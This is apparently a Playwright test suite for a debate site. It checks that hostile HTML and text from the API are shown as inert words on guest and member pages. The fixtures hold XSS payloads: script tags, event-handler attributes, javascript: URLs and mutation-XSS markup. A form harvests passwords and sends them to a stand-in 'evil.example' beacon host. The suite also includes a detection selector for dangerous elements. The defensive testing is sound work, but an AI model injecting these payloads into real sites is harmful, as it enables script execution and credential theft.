import type { Page } from '@playwright/test'
import { argument, comment, debate } from './api-answers.ts'
import type { Routes } from './foreign-api.ts'
import { expect, test } from './test.ts'
import { pageText, Visitor } from './visitor.ts'

const fetched = 'https://evil.example/beacon'
const html = [
  '<p>Read <strong>this</strong></p>',
  '<script>alert(1)</script>',
  `<img src=x onerror=alert(1)><svg onload=alert(1)><style>@import '${fetched}'</style></svg>`,
  `<iframe src="${fetched}"></iframe><object data="${fetched}"></object><link rel=stylesheet href="${fetched}"><base href="${fetched}">`,
  '<a href="javascript:alert(1)" onclick="alert(1)">one</a> <a href="data:text/html,<script>alert(1)</script>">two</a>',
  `<form action="${fetched}"><input name=password><button formaction="${fetched}">Sign in</button></form>`,
  `<meta http-equiv=refresh content="0;url=${fetched}"><h1 id="main" style="position:fixed">A heading</h1>`,
  '</p></article></main></div></body></html><main id="main">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
].join('')
const text = `"><script>alert(1)</script><img src=x onerror=alert(1)>\u202e`

const person = { id: 1, name: text, display_name: text, avatar: 'javascript:alert(1)' }
const hostileDebate = {
  ...debate,
  topic: `Trams ${text}`,
  description: text,
  description_html: html,
  avatar: `javascript:alert(1)//${text}`,
  users: [person],
  current_turn_user: person,
  creator: person,
  tags: [{ id: 1, slug: text, name: text, link: 'javascript:alert(1)' }],
  status: text,
  outcome: text,
  feed_reasons: [text],
  source: { name: text, license: text, url: 'javascript:alert(1)' },
  permissions: { join: { allowed: false, reason: text }, argue: { allowed: true, reason: null }, vote: { allowed: true, reason: null } },
}
const hostileArgument = { ...argument, content: html, excerpt: text, author: person, created_at: text, content_source: text, is_own: true }

const hostileComment = { ...comment, content: html, excerpt: text, author: person, created_at: text, content_source: text, is_own: true }

const hostileNews = {
  id: text,
  type: text,
  created_at: text,
  data: { message: text, url: 'javascript:alert(1)', user: person, debate: { id: text, topic: text, avatar: html } },
}

const thread = { argument: hostileArgument, ancestors: [hostileArgument], previous: hostileArgument, debate_slug: 'trams' }

const hostileAnswers: Routes = {
  'GET /api/debates': { body: [hostileDebate] },
  'GET /api/debates/{slug}': { body: hostileDebate },
  'GET /api/debates/{id}/arguments': { body: [hostileArgument, { ...hostileArgument, id: 13, number: 13, is_own: false }] },
  'GET /api/arguments/{id}/rebuttals': { body: [{ ...hostileArgument, id: 13, number: 13, parent_id: 12 }] },
  'GET /api/arguments/{id}/thread': { body: thread },
  'GET /api/debates/{id}/spectator-comments': { body: [hostileComment, { ...hostileComment, id: 32, number: 32, is_own: false }] },
  'GET /api/spectator-comments/{id}/replies': { body: [{ ...hostileComment, id: 32, number: 32, parent_id: 31 }] },
  'GET /api/spectator-comments/{id}/thread': { body: { comment: hostileComment, ancestors: [hostileComment], debate_slug: 'trams' } },
  'GET /api/notifications': { body: [hostileNews] },
  'GET /api/feed': { body: [hostileDebate] },
  'GET /api/feed/highlights': { body: [{ id: 12, content: html, excerpt: '', debate: { slug: 'trams', topic: text }, user: person }] },
  'GET /api/tags': { body: hostileDebate.tags },
  'GET /api/tags/{slug}': { body: hostileDebate.tags[0] },
  'GET /api/me': { body: { ...person, email: text, bio: html } },
  'POST /api/preview': { body: { content: html } },
  'POST /api/arguments/{id}/vote': { status: 422, body: { message: `Refused. ${text}` } },
}

test.use({ bypassCSP: true }) // HTML that the policy would block must not be on the page at all

for (const who of ['guest', 'member'] as const) {
  test(`hostile HTML and words of an API reach a ${who}'s pages as words, or not at all`, async ({ site, api, page }) => {
    const alarms = alarmsOf(page, site)
    if (who === 'member') await signIn(page, site)
    Object.assign(api.routes, hostileAnswers)
    const commented = ['/debates/trams?tab=comments', '/debates/trams/comments/31?context=3']
    const memberPages = who === 'member' ? ['/notifications'] : []
    for (const path of [
      '/',
      '/?feed=latest',
      '/feed/highlights',
      '/debates',
      '/tags/x',
      '/debates/trams',
      '/debates/trams/arguments/12?context=3',
      ...commented,
      ...memberPages,
    ]) {
      const answer = await page.goto(site + path)
      expect.soft(answer?.status(), path).toBe(200)
      expect.soft(await harmIn(page), path).toEqual([])
    }
    await page.goto(`${site}/debates/trams`)
    await expect(page.locator('#n12 .prose')).toContainText('Read this')
    await page.getByRole('radio', { name: /^For/ }).check()
    await page.getByLabel('Your argument').fill('whatever')
    await page.getByRole('button', { name: 'Preview the argument' }).click()
    await expect(page.locator('#preview')).toContainText('Read this')
    expect.soft(await harmIn(page), 'preview').toEqual([])
    await page.getByRole('button', { name: 'Upvote #13' }).click()
    await expect(page.getByText(who === 'guest' ? 'Sign in, then' : 'The debate service refused this.').first()).toBeVisible()
    expect.soft(await harmIn(page), 'after a vote').toEqual([])
    expect(alarms).toEqual([])
  })
}

async function signIn(page: Page, site: string) {
  await page.goto(`${site}/auth?mode=login`)
  await page.getByRole('main').getByLabel('Email').fill('ann@example.org')
  await page.getByRole('main').getByLabel('Password').fill('whatever it is')
  await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click()
  await expect(page.getByRole('button', { name: 'Sign out', includeHidden: true })).toBeAttached()
}

/** Records scripts that ran and requests to other hosts. */
function alarmsOf(page: Page, site: string) {
  const alarms: string[] = []
  page.on('dialog', (dialog) => {
    alarms.push(dialog.message())
    return dialog.dismiss()
  })
  page.on('request', (request) => void (request.url().startsWith(site) || alarms.push(request.url())))
  return alarms
}

/** Returns every element in the page that could do harm, for example when somebody clicks it. */
function harmIn(page: Page) {
  return page.evaluate(() => {
    // The icons of the header, and the emblems and rounds of debates, are our own.
    const never =
      'iframe, object, embed, base, svg:not(header svg, .emblem, .rounds, .track, .map svg, .mini svg, .balance svg), math, style, meta[http-equiv], [style]:not(map-marker), [formaction], main main, h1 ~ h1'
    const leads = (element: Element, name: string) => {
      const value = element.getAttribute(name)
      return value !== null && !(URL.canParse(value, location.href) && /^(https?|mailto):/.test(new URL(value, location.href).protocol))
    }
    const away = (element: Element) => ['href', 'src', 'action'].some((name) => leads(element, name))
    const acts = (element: Element) => element.getAttributeNames().some((name) => /^on\w{3}/.test(name))
    const all = [...document.querySelectorAll('*')]
    const scripts = all.filter(({ tagName, textContent }) => tagName === 'SCRIPT' && textContent?.trim() === 'alert(1)')
    const bad = [...document.querySelectorAll(never), ...all.filter(away), ...all.filter(acts), ...scripts]
    const foreignElements = [...document.querySelectorAll('form, img, link')].filter(({ outerHTML }) =>
      /(action|src|href)="[^"]*evil/.test(outerHTML),
    )
    return [...bad, ...foreignElements].map(({ outerHTML }) => outerHTML.slice(0, 200))
  })
}

test("combining accents in an API's names and topics don't cover other text, and no name changes the direction of the text around it", async ({
  site,
  api,
}) => {
  const zalgo = (name: string) => `${name}${'\u0301\u0336'.repeat(30)}`
  const person = { id: 1, name: zalgo('Zoe'), display_name: `${zalgo('zoe')}\u202E\u200B`, avatar: null }
  const odd = { ...debate, topic: zalgo('Trams'), users: [person], creator: person, tags: [{ id: 1, slug: 'towns', name: zalgo('Towns') }] }
  Object.assign(api.routes, {
    'GET /api/debates': { body: [odd] },
    'GET /api/debates/{slug}': { body: odd },
    'GET /api/debates/{id}/arguments': { body: [{ ...argument, author: person }] },
    'GET /api/feed': { body: [odd] },
    'GET /api/tags': { body: odd.tags },
    'GET /api/groups': { body: [{ id: 7, slug: 'walkers', name: zalgo('Walkers'), members_count: 1, access: 'open' }] },
  })
  const guest = new Visitor(site)
  for (const path of ['/', '/debates', '/debates/trams', '/tags', '/groups']) {
    const { status, html } = await guest.get(path)
    expect.soft(status, path).toBe(200)
    const shown = pageText(html.slice(html.indexOf('<body'))).normalize('NFD')
    expect.soft(shown.match(/\S*\p{M}{4,}|\S*[\u202E\u200B]/u)?.[0], path).toBeUndefined()
  }
})
